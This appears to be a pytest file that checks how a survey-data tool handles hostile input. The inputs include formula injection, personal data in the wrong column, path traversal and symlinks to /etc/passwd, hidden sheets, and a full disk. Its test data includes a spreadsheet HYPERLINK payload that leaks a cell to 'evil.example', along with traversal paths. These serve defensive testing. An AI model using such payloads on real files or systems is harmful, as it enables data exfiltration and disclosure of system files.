"""Hostile input (issue 14): formulas reaching outputs, a reversible salt, personal data in the wrong column,
paths leading out of the survey folder, the wrong sheet read silently, tracebacks and hangs.

Each class has its own tests; ``CATALOGUE`` holds further hostile cases run through the ``sipas`` command.
Every refused case checks that the user sees one line (``sipas: error: ...``) naming the file, row, column or
key, that the exit code is 2, that ``data/raw`` is byte-identical afterwards and that no output (processed,
restricted, reports) was added, replaced or half-written.  Files are generated in ``tmp_path`` from the demo
survey and tests/data/ingest/forms_small.csv; the encrypted workbook is in tests/data/bad_input/hostile/.
"""

from __future__ import annotations

import csv
import dataclasses
import errno
import hashlib
import io
import json
import os
import shutil
import subprocess
import sys
import time
import zipfile
from collections.abc import Callable
from pathlib import Path

import numpy as np
import openpyxl
import pandas as pd
import pytest
import yaml

from sipas import io as sio
from sipas import rawfiles
from sipas.cli import main
from sipas.errors import InputError, OutputError
from sipas.forms.ingest import read_responses
from sipas.forms.instrument import load_instrument
from sipas.forms.pii import personal_data_kind, pseudonym

REPO = Path(__file__).resolve().parent.parent
DEMO = "demo-laichau-2024"
HOSTILE = Path(__file__).parent / "data" / "bad_input" / "hostile"
SMALL = Path(__file__).parent / "data" / "ingest" / "forms_small.csv"
INST = load_instrument("household", "2023.1")


# --------------------------------------------------------------------------------------------------
# helpers


def tree(folder: Path) -> dict[str, str]:
    """SHA-256 of every file below ``folder`` (hidden and temporary files included)."""
    if not folder.exists():
        return {}
    return {str(p.relative_to(folder)): hashlib.sha256(p.read_bytes()).hexdigest()
            for p in sorted(folder.rglob("*")) if p.is_file()}


def outputs(root: Path) -> dict[str, str]:
    return {k: v for d in ("data/processed", "restricted", "reports") for k, v in
            ((f"{d}/{n}", h) for n, h in tree(root / d).items())}


def raw_dir(root: Path) -> Path:
    return root / "data" / "raw" / DEMO


def edit_config(root: Path, change: Callable[[dict], None]) -> None:
    p = raw_dir(root) / "survey.yml"
    cfg = yaml.safe_load(p.read_text(encoding="utf-8"))
    change(cfg)
    p.write_text(yaml.safe_dump(cfg, allow_unicode=True, sort_keys=False), encoding="utf-8")


def csv_rows(path: Path) -> list[list[str]]:
    return list(csv.reader(path.open(encoding="utf-8-sig", newline="")))


def write_rows(path: Path, rows: list[list[str]]) -> None:
    buf = io.StringIO()
    csv.writer(buf, lineterminator="\n").writerows(rows)
    path.write_text(buf.getvalue(), encoding="utf-8")


def cli(root: Path, *argv: str) -> tuple[int, str, str]:
    """Run ``sipas`` in this process; returns (exit code, stdout, stderr)."""
    out, err = io.StringIO(), io.StringIO()
    import contextlib

    with contextlib.redirect_stdout(out), contextlib.redirect_stderr(err):
        rc = main(["--root", str(root), *argv])
    return rc, out.getvalue(), err.getvalue()


def refused(root: Path, argv: list[str], *fragments: str) -> str:
    """Run a command that must fail: one line naming ``fragments``, exit 2, raw and outputs untouched."""
    raw_before, out_before = tree(root / "data" / "raw"), outputs(root)
    rc, _out, err = cli(root, *argv)
    lines = err.strip().splitlines()
    assert rc == 2, err
    assert len(lines) == 1 and lines[0].startswith("sipas: error: "), err
    assert "Traceback" not in err
    for f in fragments:
        assert f in lines[0], (f, lines[0])
    assert tree(root / "data" / "raw") == raw_before, "data/raw changed"
    assert outputs(root) == out_before, "an output was added, replaced or left half-written"
    return lines[0]


@pytest.fixture(scope="module")
def cleaned_root(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A project root with a copy of the demo raw data, after ``sipas clean``."""
    root = tmp_path_factory.mktemp("hostile-base")
    shutil.copytree(REPO / "data" / "raw" / DEMO, raw_dir(root))
    (root / "pyproject.toml").write_text("# marker for sipas.config.project_root\n")
    rc, _o, err = cli(root, "clean", "--survey", DEMO)
    assert rc == 0, err
    return root


@pytest.fixture
def project(tmp_path: Path, cleaned_root: Path) -> Path:
    """A fresh copy of :func:`cleaned_root` for one test."""
    root = tmp_path / "project"
    shutil.copytree(cleaned_root, root, symlinks=True)
    return root


def small_rows(n: int = 3) -> tuple[list[str], list[list[str]]]:
    rows = csv_rows(SMALL)
    return rows[0], [r[:] for r in rows[1:1 + n]]


def small_xlsx(path: Path, sheets: list[tuple[str, list[list[str]], str]]) -> Path:
    """A workbook with one sheet per ``(name, rows, state)``."""
    wb = openpyxl.Workbook()
    wb.remove(wb.active)
    for name, rows, state in sheets:
        ws = wb.create_sheet(name)
        for r in rows:
            ws.append(r)
        ws.sheet_state = state
    wb.save(path)
    return path


# --------------------------------------------------------------------------------------------------
# 2. spreadsheet formulas never reach outputs


FORMULA_LIKE = {"Huyện Tam Đường": "+Huyện Tam Đường", "Phường Phìn Sì": "@Phường Phìn Sì",
                "Tổ dân phố số 1": "-Tổ dân phố số 1"}


def _rename_units(root: Path, names: dict[str, str]) -> None:
    for p in sorted(raw_dir(root).rglob("*.csv")):
        rows = csv_rows(p)
        if any(c in names for r in rows for c in r):
            write_rows(p, [[names.get(c, c) for c in r] for r in rows])


def _unsafe_cells(path: Path) -> list[str]:
    """Cells of a CSV that a spreadsheet would evaluate (start with = + - @ tab CR and are not numbers)."""
    bad = []
    for r in csv_rows(path):
        for c in r:
            if c[:1] in ("=", "+", "-", "@", "\t", "\r") and not sio._NUMBER.fullmatch(c):
                bad.append(c)
    return bad


def test_formula_like_unit_names_are_text_in_every_processed_csv(tmp_path):
    root = tmp_path / "p"
    shutil.copytree(REPO / "data" / "raw" / DEMO, raw_dir(root))
    (root / "pyproject.toml").write_text("")
    _rename_units(root, FORMULA_LIKE)
    raw_before = tree(root / "data" / "raw")
    for stage in ("clean", "weight", "indices"):
        rc, _o, err = cli(root, stage, "--survey", DEMO)
        assert rc == 0, err
    assert tree(root / "data" / "raw") == raw_before
    proc = root / "data" / "processed" / DEMO
    for f in sorted(proc.glob("*.csv")):
        assert _unsafe_cells(f) == [], f.name
    # the names are there, neutralised, in the files the issue names
    text = {f: (proc / f"{f}.csv").read_text(encoding="utf-8") for f in
            ("forms_clean", "weights", "response_rates", "indices", "ranking")}
    assert "'+Huyện Tam Đường" in text["forms_clean"] and "'@Phường Phìn Sì" in text["forms_clean"]
    assert "'-Tổ dân phố số 1" in text["weights"] and "'@Phường Phìn Sì" in text["response_rates"]
    assert "'+Huyện Tam Đường" in text["indices"] and "'+Huyện Tam Đường" in text["ranking"]
    # and later stages (and anyone using sipas.io.read_csv) read the original names back
    assert "+Huyện Tam Đường" in set(sio.read_csv(proc / "ranking.csv")["domain"])
    assert "-Tổ dân phố số 1" in set(sio.read_csv(proc / "weights.csv")["village"])
    # numbers stay numbers
    w = pd.read_csv(proc / "weights.csv")
    assert w["w_final"].dtype == float


def test_formula_unit_names_are_text_cells_in_the_annexes(tmp_path):
    root = tmp_path / "p"
    shutil.copytree(REPO / "data" / "raw" / DEMO, raw_dir(root))
    (root / "pyproject.toml").write_text("")
    evil = '=HYPERLINK("http://evil.example/?leak="&A1,"Phường Phìn Sì")'
    _rename_units(root, {"Phường Phìn Sì": evil, "Tổ dân phố số 1": "@SUM(1+1)"})
    rc, _o, err = cli(root, "sample", "--survey", DEMO)
    assert rc == 0, err
    xlsx = sorted((root / "data" / "processed" / DEMO / "sample").glob("*.xlsx"))
    xlsx += sorted((root / "restricted" / DEMO).glob("*.xlsx"))
    assert len(xlsx) == 4
    seen = set()
    for f in xlsx:
        with zipfile.ZipFile(f) as z:
            for n in z.namelist():
                if n.startswith("xl/worksheets/"):
                    assert b"<f>" not in z.read(n) and b"<f " not in z.read(n), (f.name, n)
        wb = openpyxl.load_workbook(f)
        for ws in wb.worksheets:
            for row in ws.iter_rows():
                for c in row:
                    assert c.data_type != "f", (f.name, c.coordinate, c.value)
                    if c.value in (evil, "@SUM(1+1)"):
                        seen.add((f.name, c.value))
    assert ("phu_luc_01_communes.xlsx", evil) in seen
    assert ("phu_luc_02_villages.xlsx", "@SUM(1+1)") in seen
    for f in sorted((root / "data" / "processed" / DEMO / "sample").glob("*.csv")):
        assert _unsafe_cells(f) == [], f.name
    cells = {c for r in csv_rows(root / "data" / "processed" / DEMO / "sample" / "phu_luc_01_communes.csv") for c in r}
    assert "'" + evil in cells


def test_xlsx_bytes_writes_formula_like_text_as_text():
    """Every XLSX goes through sipas.io.xlsx_bytes, including pandas' writer (the report's tables.xlsx)."""
    buf = io.BytesIO()
    with pd.ExcelWriter(buf, engine="openpyxl") as xw:
        pd.DataFrame({"unit": ["=1+1", "+2", "@A1", "-x", "ok"], "n": [1, -2, 3, 4, 5]}).to_excel(xw, index=False)
        book = xw.book
        data = sio.xlsx_bytes(book)
    ws = openpyxl.load_workbook(io.BytesIO(data)).active
    assert [c.value for c in ws["A"]][1:] == ["=1+1", "+2", "@A1", "-x", "ok"]
    assert all(c.data_type == "s" for c in ws["A"])
    assert [c.value for c in ws["B"]][1:] == [1, -2, 3, 4, 5]
    assert ws["A2"].quotePrefix
    assert data == sio.xlsx_bytes(book)  # still deterministic


@pytest.mark.parametrize("value,written", [
    ("=1+1", "'=1+1"), ("+84 912 345 678", "'+84 912 345 678"), ("@x", "'@x"), ("-x", "'-x"),
    ("\tx", "'\tx"), ("'=x", "''=x"), ("-0.5", "-0.5"), ("+3", "+3"), ("1e-5", "1e-5"),
    ("x=1", "x=1"), ("", ""),
])
def test_csv_neutralisation_round_trips(tmp_path, value, written):
    df = pd.DataFrame({"t": [value], value or "blank": ["v"]})
    p = sio.write_csv(df, tmp_path / "out.csv")
    cells = list(csv.reader(p.open(encoding="utf-8", newline="")))
    assert cells[1][0] == written and cells[0][1] == (sio.neutralise_formula(value) or "blank")
    back = sio.read_csv(p, dtype=str, keep_default_na=False)
    assert back.iloc[0, 0] == value and list(back.columns) == ["t", value or "blank"]


def test_carriage_return_in_csv_cell_is_a_line_break(tmp_path):
    """A bare CR would be written unquoted and split the row; it is written as a line break instead."""
    p = sio.write_csv(pd.DataFrame({"t": ["\rx", "a\rb", "c\r\nd"], "n": [1, 2, 3]}), tmp_path / "out.csv")
    back = sio.read_csv(p)
    assert back["t"].tolist() == ["\nx", "a\nb", "c\nd"] and back["n"].tolist() == [1, 2, 3]


def test_csv_under_data_raw_is_written_as_typed(tmp_path):
    p = sio.write_csv(pd.DataFrame({"phone": ["+84 912 345 678"]}), tmp_path / "data" / "raw" / "s" / "x.csv")
    assert p.read_text(encoding="utf-8") == "phone\n+84 912 345 678\n"


# --------------------------------------------------------------------------------------------------
# 3b. the pseudonym salt cannot be derived from the survey id


def test_random_salt_generated_once_into_restricted(tmp_path):
    root = tmp_path / "p"
    shutil.copytree(REPO / "data" / "raw" / DEMO, raw_dir(root))
    (root / "pyproject.toml").write_text("")
    edit_config(root, lambda c: c["restricted"].pop("salt_file"))
    rc, _o, err = cli(root, "clean", "--survey", DEMO)
    assert rc == 0, err
    salt_file = root / "restricted" / DEMO / "salt.txt"
    assert err.count("sipas: note:") == 1 and str(salt_file) in err
    salt = salt_file.read_text(encoding="utf-8").strip()
    assert len(salt) == 64 and int(salt, 16) >= 0
    assert (root / "restricted" / DEMO / ".gitignore").read_text() == "*\n"
    proc = root / "data" / "processed" / DEMO
    first = tree(proc)
    forms = sio.read_csv(proc / "forms_clean.csv", dtype=str)
    hh = csv_rows(raw_dir(root) / "responses" / "forms.csv")[1][1]
    key = forms["respondent_key"].iloc[0]
    assert key == pseudonym(hh, salt=salt) != pseudonym(hh, salt=f"sipas-{DEMO}")
    assert not any(salt in (proc / f).read_text(errors="ignore") for f in first)
    # deterministic afterwards: the same salt, the same files, no second note
    rc, _o, err = cli(root, "clean", "--survey", DEMO)
    assert rc == 0 and "note" not in err
    assert tree(proc) == first
    rc, _o, err = cli(root, "weight", "--survey", DEMO)  # the weighting stage uses the same salt
    assert rc == 0, err


# --------------------------------------------------------------------------------------------------
# 4. personal data typed into the wrong column


def test_personal_data_in_other_columns_is_moved_to_restricted(tmp_path):
    h, d = small_rows()
    col = {c: i for i, c in enumerate(h)}
    d[0][col["village"]] = "0912 345 678"
    d[1][col["mode"]] = "gọi a.b@example.vn"
    d[2][col["p1_1a"]] = "001234567890"
    d[2][col["interview_date"]] = "+84 98.765.4321"
    p = tmp_path / "forms.csv"
    write_rows(p, [h, *d])
    res = read_responses(p, instrument=INST, salt="s")
    assert res.forms["village"].isna().tolist() == [True, False, False]
    assert pd.isna(res.forms.loc[1, "mode"]) and pd.isna(res.forms.loc[2, "p1_1a"])
    assert pd.isna(res.forms.loc[2, "interview_date"])
    got = sorted(zip(res.personal["row"], res.personal["column"], res.personal["kind"]))
    assert got == [(2, "village", "phone"), (3, "mode", "email"), (4, "interview_date", "phone"),
                   (4, "p1_1a", "citizen_id")]
    assert list(res.personal["form_id"]) == [d[0][0], d[1][0], d[2][0], d[2][0]]
    assert res.restricted.loc[0, "personal_in_village"] == "0912 345 678"
    assert res.restricted.loc[2, "personal_in_p1_1a"] == "001234567890"
    moved = res.log[res.log["rule"] == "personal_data_moved"]
    assert len(moved) == 4 and moved["old"].isna().all() and moved["new"].isna().all()
    for secret in ("0912 345 678", "a.b@example.vn", "001234567890", "98.765.4321"):
        assert secret not in res.forms.to_csv() and secret not in res.log.to_csv()


def test_phone_in_village_column_never_reaches_processed_files(project):
    forms = raw_dir(project) / "responses" / "forms.csv"
    rows = csv_rows(forms)
    v = rows[0].index("village")
    second = {r[0] for r in csv_rows(raw_dir(project) / "responses" / "forms_second_entry.csv")[1:]}
    item = rows[0].index("q9_01")  # compared by the double entry
    targets = [i for i in range(1, len(rows)) if rows[i][0] in second][:1] + [2, 3]
    secrets_ = ["0987.654.321", "+84 912 000 111", "khách@example.com"]
    columns = ["q9_01", "village", "village"]
    for i, s, j in zip(targets, secrets_, [item, v, v]):
        rows[i][j] = s
    write_rows(forms, rows)
    rc, _o, err = cli(project, "clean", "--survey", DEMO)
    assert rc == 0, err
    proc = project / "data" / "processed" / DEMO
    for f in sorted(proc.iterdir()):
        data = f.read_bytes()
        for s in secrets_:
            assert s.encode("utf-8") not in data, (f.name, s)
        assert b"0987654321" not in data and b"987654321" not in data
    audit = sio.read_csv(proc / "audit_log.csv", dtype=str)
    moved = audit[audit["rule"] == "personal_data_moved"]
    assert sorted(zip(moved["form_id"], moved["column"], moved["old"])) == sorted(
        [(rows[i][0], c, k) for i, c, k in zip(targets, columns, ["[phone]", "[phone]", "[email]"])])
    summary = sio.read_csv(proc / "audit_summary.csv")
    moved_summary = summary[summary["rule"] == "personal_data_moved"]
    assert sorted(moved_summary[["column", "action", "entries"]].values.tolist()) == [
        ["q9_01", "move_to_restricted", 1], ["village", "move_to_restricted", 2]]
    disc = sio.read_csv(proc / "double_entry_discrepancies.csv", dtype=str)
    assert "[phone]" in set(disc["first"])
    restricted = (project / "restricted" / DEMO / "respondents.csv").read_text(encoding="utf-8")
    assert all(s in restricted for s in secrets_[:2])


@pytest.mark.parametrize("value,kind", [
    ("0912345678", "phone"), ("091 234 5678", "phone"), ("0912-345-678", "phone"), ("(+84) 912 345 678", "phone"),
    ("024 3825 1234", "phone"), ("Bản Hon 0912345678", "phone"), (912345678, "phone"), (912345678.0, "phone"),
    ("079123456789", "citizen_id"), ("079 123 456 789", "citizen_id"), (79123456789, "citizen_id"),
    ("nguyen.van.a@gmail.com", "email"), ("Thôn 3", None), ("2024-09-17", None), ("17/09/2024", None),
    ("45552", None), ("4. Hài lòng", None), (5, None), ("F-0001", None), ("x@y", None),
])
def test_personal_data_kind(value, kind):
    assert personal_data_kind(value) == kind


# --------------------------------------------------------------------------------------------------
# 5. every configured path stays inside the survey folder


@pytest.mark.parametrize("key,value", [
    ("frames.communes", "../../../../../../../etc/passwd"),
    ("frames.villages", "/etc/passwd"),
    ("sampling.sample_file", "../demo-laichau-2023/sample/households_selected.csv"),
])
def test_paths_outside_the_survey_folder_are_refused(project, key, value):
    section, name = key.split(".")
    edit_config(project, lambda c: c[section].__setitem__(name, value))
    refused(project, ["check", "--survey", DEMO], f"[{key}]", "outside the survey folder", "survey.yml")


def test_symlink_leading_out_is_refused(project):
    link = raw_dir(project) / "frames" / "communes_link.csv"
    link.symlink_to("/etc/passwd")
    edit_config(project, lambda c: c["frames"].__setitem__("communes", "frames/communes_link.csv"))
    refused(project, ["check", "--survey", DEMO], "[frames.communes]", "/etc/passwd", "outside the survey folder")
    refused(project, ["clean", "--survey", DEMO], "[frames.communes]")


def test_symlink_inside_the_folder_is_fine(project):
    (raw_dir(project) / "frames" / "communes_link.csv").symlink_to("communes.csv")
    edit_config(project, lambda c: c["frames"].__setitem__("communes", "frames/communes_link.csv"))
    rc, out, err = cli(project, "check", "--survey", DEMO)
    assert rc == 0, err


# --------------------------------------------------------------------------------------------------
# 6. the right sheet, the bytes that were read


def test_hidden_first_sheet_is_not_read(tmp_path):
    h, d = small_rows()
    last_year = [r[:] for r in d]
    for r in last_year:
        r[0] = "2023-" + r[0]
    p = small_xlsx(tmp_path / "forms.xlsx", [("2023", [h, *last_year], "hidden"), ("Nhap_phieu", [h, *d], "visible")])
    before = tree(tmp_path)
    res = read_responses(p, instrument=INST, salt="s")
    assert list(res.forms["form_id"]) == [r[0] for r in d]
    ign = res.log[res.log["rule"] == "sheet_ignored"]
    assert list(ign["old"]) == ["2023"] and "(hidden)" in ign["note"].iloc[0]
    assert tree(tmp_path) == before


@pytest.mark.parametrize("sheets,message", [
    ([("2023", "hidden"), ("Sheet2", "visible")], "2 sheets hold forms: '2023' (hidden), 'Sheet2'"),
    ([("Sheet1", "visible"), ("Sheet2", "visible")], "2 sheets hold forms: 'Sheet1', 'Sheet2'"),
    ([("Cu", "hidden"), ("Ghi chu", "visible")], "the only sheet holding forms, 'Cu', is hidden"),
    ([("Nhap_phieu", "hidden"), ("Sheet2", "visible")], "the entry sheet 'Nhap_phieu' is hidden"),
])
def test_ambiguous_workbooks_are_refused(tmp_path, sheets, message):
    h, d = small_rows()
    content = {"Ghi chu": [["ghi chú"]]}
    p = small_xlsx(tmp_path / "forms.xlsx", [(n, content.get(n, [h, *d]), s) for n, s in sheets])
    with pytest.raises(InputError) as ei:
        read_responses(p, instrument=INST, salt="s")
    assert message in str(ei.value) and ei.value.file == str(p)


def test_frame_workbook_hidden_first_sheet_not_read(tmp_path):
    from sipas.sampling.frames import read_table

    p = small_xlsx(tmp_path / "communes.xlsx", [("old", [["district", "commune"], ["A", "cũ"]], "hidden"),
                                                 ("new", [["district", "commune"], ["A", "mới"]], "visible")])
    assert read_table(p)["commune"].tolist() == ["mới"]


def test_manifest_hashes_the_bytes_read_when_read(project, monkeypatch):
    from sipas.stages import cleaning

    forms = raw_dir(project) / "responses" / "forms.csv"
    read_digest = hashlib.sha256(forms.read_bytes()).hexdigest()
    original = cleaning.write_tables

    def edit_during_the_run(*args, **kwargs):
        with open(forms, "ab") as fh:  # someone saves the file after sipas read it, before the manifest
            fh.write(b"\n")
        return original(*args, **kwargs)

    monkeypatch.setattr(cleaning, "write_tables", edit_during_the_run)
    rc, _o, err = cli(project, "clean", "--survey", DEMO)
    assert rc == 0, err
    man = json.loads((project / "data" / "processed" / DEMO / "manifest_cleaning.json").read_text())
    assert man["read"][f"data/raw/{DEMO}/responses/forms.csv"] == read_digest
    assert hashlib.sha256(forms.read_bytes()).hexdigest() != read_digest


def test_file_changing_between_two_reads_in_a_stage_is_refused(project, monkeypatch):
    """The cleaning stage reads the forms twice (ingest, then the recheck's raw comparison)."""
    from sipas.forms import cleaning

    forms = raw_dir(project) / "responses" / "forms.csv"
    original = cleaning.clean_forms

    def edit_between_reads(*args, **kwargs):
        with open(forms, "ab") as fh:
            fh.write(b"\n")
        return original(*args, **kwargs)

    monkeypatch.setattr(cleaning, "clean_forms", edit_between_reads)
    before = outputs(project)
    rc, _o, err = cli(project, "clean", "--survey", DEMO)
    assert rc == 2 and f"file {forms}: the file changed while sipas was reading it" in err
    assert outputs(project) == before


def test_file_changing_between_two_reads_is_refused(tmp_path):
    p = tmp_path / "x.csv"
    p.write_text("a\n1\n")
    with pytest.raises(InputError, match="changed while sipas was reading it"):
        with sio.transaction():
            rawfiles.read_raw(p)
            p.write_text("a\n2\n")
            rawfiles.read_raw(p)


# --------------------------------------------------------------------------------------------------
# 7. one line, exit code 2, no partial output -- never a traceback or a hang


def test_sample_list_without_pi(project):
    sample = raw_dir(project) / "sample" / "households_selected.csv"
    rows = csv_rows(sample)
    j = rows[0].index("pi")
    write_rows(sample, [r[:j] + r[j + 1:] for r in rows])
    refused(project, ["weight", "--survey", DEMO], f"file {sample}", "row 1", "column 'pi'",
            "sample list lacks column(s) pi")


def test_sample_list_saved_as_xlsx(project):
    sample = raw_dir(project) / "sample" / "households_selected.csv"
    rows = csv_rows(sample)
    wb = openpyxl.Workbook()
    for r in rows:
        wb.active.append(r)
    buf = io.BytesIO()
    wb.save(buf)
    sample.write_bytes(buf.getvalue())
    refused(project, ["weight", "--survey", DEMO], f"file {sample}", "Excel workbook (.xlsx), not CSV text")


def test_sample_list_as_real_xlsx_is_read(project):
    sample = raw_dir(project) / "sample" / "households_selected.csv"
    df = pd.read_csv(sample, dtype={"household_id": str})
    rc, _o, err = cli(project, "weight", "--survey", DEMO)
    assert rc == 0, err
    expected = (project / "data" / "processed" / DEMO / "weights.csv").read_bytes()
    df.to_excel(sample.with_suffix(".xlsx"), index=False)
    edit_config(project, lambda c: c["sampling"].__setitem__("sample_file", "sample/households_selected.xlsx"))
    rc, _o, err = cli(project, "weight", "--survey", DEMO)
    assert rc == 0, err
    got = pd.read_csv(project / "data" / "processed" / DEMO / "weights.csv")
    want = pd.read_csv(io.BytesIO(expected))
    # openpyxl keeps 16 significant digits of a float (pi), the CSV 17: equal to 1e-15
    pd.testing.assert_frame_equal(got, want, check_exact=False, rtol=1e-14)


def test_nested_lists_in_nonresponse_cells(project):
    edit_config(project, lambda c: c["weighting"].__setitem__("nonresponse_cells", [["district", "commune"]]))
    refused(project, ["check", "--survey", DEMO], "[weighting.nonresponse_cells]", "[['district', 'commune']]")
    refused(project, ["weight", "--survey", DEMO], "[weighting.nonresponse_cells]")


def test_password_protected_workbook(project):
    dst = raw_dir(project) / "responses" / "forms.xlsx"
    shutil.copy2(HOSTILE / "password_protected.xlsx", dst)
    edit_config(project, lambda c: c.__setitem__("responses", ["responses/forms.xlsx"]))
    line = refused(project, ["clean", "--survey", DEMO], f"file {dst}", "encrypted (password-protected)")
    assert "zip" not in line


def test_200000_columns_refused_before_parsing(tmp_path):
    h, d = small_rows(1)
    p = tmp_path / "wide.csv"
    p.write_text(",".join(h + [f"x{i}" for i in range(200_000)]) + "\n" + ",".join(d[0]) + "\n", encoding="utf-8")
    t0 = time.perf_counter()
    with pytest.raises(InputError) as ei:
        read_responses(p, instrument=INST, salt="s")
    assert time.perf_counter() - t0 < 5
    assert "the header row has 200054 columns, more than the limit of 2000" in str(ei.value)
    assert (ei.value.file, ei.value.row) == (str(p), 1)


def test_200000_columns_through_the_command(project):
    forms = raw_dir(project) / "responses" / "forms.csv"
    with open(forms, "r+", encoding="utf-8") as fh:
        text = fh.read()
        head, rest = text.split("\n", 1)
        fh.seek(0)
        fh.write(head + "," * 200_000 + "\n" + rest)
    t0 = time.perf_counter()
    width = 200_000 + len(head.split(","))
    refused(project, ["clean", "--survey", DEMO], f"file {forms}", "row 1", f"{width} columns")
    assert time.perf_counter() - t0 < 30


def _fail_writes(monkeypatch, *, after: int, err: int) -> list[int]:
    """Make the (after+1)-th fsync of sipas.io fail with ``err`` (ENOSPC: a full disk)."""
    calls = [0]
    real = os.fsync

    def fsync(fd: int) -> None:
        calls[0] += 1
        if calls[0] > after:
            raise OSError(err, os.strerror(err))
        real(fd)

    monkeypatch.setattr(sio.os, "fsync", fsync)
    return calls


def test_full_disk_leaves_no_partial_output(project, monkeypatch):
    proc = project / "data" / "processed" / DEMO
    calls = _fail_writes(monkeypatch, after=5, err=errno.ENOSPC)
    line = refused(project, ["clean", "--survey", DEMO], "cannot write", str(proc), "No space left on device")
    assert calls[0] == 6
    assert not [p for p in project.rglob("*.tmp")]
    assert "Traceback" not in line


def test_read_only_output_folder(project, monkeypatch):
    proc = project / "data" / "processed" / DEMO
    os.chmod(proc, 0o555)
    try:
        if os.access(proc, os.W_OK):  # root ignores permissions: refuse the write as the kernel would
            real = sio.tempfile.mkstemp

            def mkstemp(*args, **kwargs):
                if Path(kwargs.get("dir", "")) == proc:
                    raise PermissionError(errno.EACCES, os.strerror(errno.EACCES))
                return real(*args, **kwargs)

            monkeypatch.setattr(sio.tempfile, "mkstemp", mkstemp)
        refused(project, ["clean", "--survey", DEMO], f"cannot write {proc}/forms_clean.csv", "Permission denied")
    finally:
        os.chmod(proc, 0o755)


def test_degenerate_cfa_block_is_reported_not_estimable(project, monkeypatch):
    from sipas import reliability

    real = reliability.confirmatory_factor_analysis
    hit = []

    def nan_for_first_block(data, groups, **kw):
        res = real(data, groups, **kw)
        if not hit:
            hit.append(sorted(groups))
            res = dataclasses.replace(res, cfi=float("nan"), loadings=res.loadings.assign(estimate=np.nan))
        return res

    monkeypatch.setattr(reliability, "confirmatory_factor_analysis", nan_for_first_block)
    rc, out, err = cli(project, "reliability", "--survey", DEMO)
    assert rc == 0, err
    assert "note: block 'all' not estimable (the solver gave no finite estimates (NaN))" in out
    proc = project / "data" / "processed" / DEMO
    fit = sio.read_csv(proc / "cfa_fit.csv")
    blk = fit[fit["model"] == "all"]
    assert blk.loc[blk["index"] != "n", "value"].isna().all() and blk["ok"].isna().all()
    assert (fit.loc[fit["model"] != "all", "value"].notna()).any()
    assert "all" not in set(sio.read_csv(proc / "efa_loadings.csv")["model"])


def test_degenerate_block_data_does_not_stop_the_stage():
    from sipas.stages.reliability import structure_tables

    rng = np.random.default_rng(1)
    f = rng.normal(size=(300, 2))
    good = {f"a{i}": np.clip(np.round(3 + f[:, i // 3] + rng.normal(scale=.7, size=300)), 1, 5) for i in range(6)}
    data = pd.DataFrame({**good, "b1": 4.0, "b2": 4.0, "b3": 4.0, "b4": 3.0, "b5": 3.0, "b6": 3.0})
    skipped: dict[str, str] = {}
    t = structure_tables(data, {"ok": {"c1": ["a0", "a1", "a2"], "c2": ["a3", "a4", "a5"]},
                                "flat": {"c3": ["b1", "b2", "b3"], "c4": ["b4", "b5", "b6"]}}, not_estimable=skipped)
    assert list(skipped) == ["flat"] and "no variance" in skipped["flat"]
    assert t["cfa_fit"].loc[t["cfa_fit"]["model"] == "ok", "value"].notna().all()
    assert t["cfa_fit"].loc[(t["cfa_fit"]["model"] == "flat") & (t["cfa_fit"]["index"] == "n"), "value"].item() == 300


def test_exit_code_2_in_a_real_process(project):
    edit_config(project, lambda c: c["frames"].__setitem__("communes", "/etc/passwd"))
    env = dict(os.environ, PYTHONPATH=str(REPO))
    r = subprocess.run([sys.executable, "-m", "sipas.cli", "--root", str(project), "check", "--survey", DEMO],
                       capture_output=True, text=True, env=env)
    assert r.returncode == 2 and r.stderr.count("\n") == 1 and "[frames.communes]" in r.stderr


# --------------------------------------------------------------------------------------------------
# the catalogue: further hostile cases through the command


def _set(key: str, value):
    def change(c: dict) -> None:
        *path, last = key.split(".")
        d = c
        for k in path:
            d = d.setdefault(k, {})
        d[last] = value
    return lambda root: edit_config(root, change)


def _sample_edit(fn: Callable[[list[list[str]]], list[list[str]]]):
    def setup(root: Path) -> None:
        p = raw_dir(root) / "sample" / "households_selected.csv"
        write_rows(p, fn(csv_rows(p)))
    return setup


def _sample_cell(col: str, value: str, row: int = 1):
    def fn(rows):
        rows[row][rows[0].index(col)] = value
        return rows
    return _sample_edit(fn)


def _replace_file(rel: str, data: bytes | Callable[[Path], bytes]):
    def setup(root: Path) -> None:
        p = raw_dir(root) / rel
        p.write_bytes(data(p) if callable(data) else data)
    return setup


def _xlsx_bytes_of(path: Path) -> bytes:
    wb = openpyxl.Workbook()
    for r in csv_rows(path)[:5]:
        wb.active.append(r)
    buf = io.BytesIO()
    wb.save(buf)
    return buf.getvalue()


def _link(rel: str, target: str, key: str):
    def setup(root: Path) -> None:
        p = raw_dir(root) / rel
        p.parent.mkdir(parents=True, exist_ok=True)
        p.symlink_to(target)
        _set(key, rel)(root)
    return setup


def _responses_file(name: str, make: Callable[[Path], None]):
    def setup(root: Path) -> None:
        p = raw_dir(root) / "responses" / name
        make(p)
        _set("responses", [f"responses/{name}"])(root)
    return setup


def demo_rows(n: int = 3) -> tuple[list[str], list[list[str]]]:
    """Header and first ``n`` forms of the demo survey (its instrument's columns)."""
    rows = csv_rows(REPO / "data" / "raw" / DEMO / "responses" / "forms.csv")
    return rows[0], [r[:] for r in rows[1:1 + n]]


def _forms_sheets(sheets, notes: str = ""):
    def make(p: Path) -> None:
        h, d = demo_rows()
        small_xlsx(p, [(n, [h, *d], s) for n, s in sheets] + ([(notes, [["ghi chú"]], "visible")] if notes else []))
    return make


def _wide_xlsx(p: Path) -> None:
    wb = openpyxl.Workbook()
    h, d = small_rows(1)
    wb.active.append(h + [f"x{i}" for i in range(2100)])
    wb.active.append(d[0])
    wb.save(p)


def _row_too_long(p: Path) -> None:
    h, d = small_rows(2)
    p.write_text(",".join(h) + "\n" + ",".join(d[0]) + "\n" + ",".join(d[1]) + "," * 250_000 + "\n",
                 encoding="utf-8")


def _utf16_wide(p: Path) -> None:
    p.write_bytes(("\ufeff" + "\t".join(f"c{i}" for i in range(5000)) + "\r\n1\r\n").encode("utf-16-le"))


def _restricted_is_a_file(root: Path) -> None:
    rest = root / "restricted" / DEMO
    shutil.rmtree(rest)
    rest.write_text("not a folder")


def _processed_is_a_file(root: Path) -> None:
    proc = root / "data" / "processed" / DEMO
    shutil.rmtree(proc)
    proc.write_text("not a folder")


def _linked_folder(root: Path) -> None:
    (raw_dir(root) / FRAMES_DIR_LINK).symlink_to("/etc", target_is_directory=True)
    _set("frames.villages", f"{FRAMES_DIR_LINK}/passwd")(root)


